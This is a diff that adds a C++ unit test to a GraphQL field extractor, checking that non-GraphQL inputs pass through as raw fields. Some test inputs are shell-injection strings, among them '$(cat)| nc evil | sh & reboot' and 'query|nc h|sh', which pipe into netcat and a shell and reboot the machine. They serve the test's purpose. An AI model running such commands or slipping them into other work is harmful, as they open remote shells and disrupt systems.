@@ -44,6 +44,15 @@ TEST(GraphqlExtractor, HandsOnWhatIsNoGraphql) {
   EXPECT_THAT(got.oddities, ElementsAre("graphql_syntax"));
 }
 
+TEST(GraphqlExtractor, HandsOnWhatBeginsAsNoDocument) {
+  for (const char* const text : {"$(cat)| nc evil | sh & reboot", "x|id", "cat", "(a)"}) {
+    const TakenApart got = TakeApart(kGraphql, text);
+    EXPECT_THAT(got.fields, ElementsAre(absl::StrCat("graphql = ", text)));
+  }
+  EXPECT_THAT(TakeApart(kGraphql, "query Q($(id))").fields, ElementsAre("graphql = $(id))"));
+  EXPECT_THAT(TakeApart(kGraphql, "query|nc h|sh").fields, ElementsAre("graphql = |nc h|sh"));
+}
+
 TEST(GraphqlExtractor, IsFoundInJsonSentToAGraphqlPath) {
   const TakenApart got =
       TakeApart({.type = "application/json",
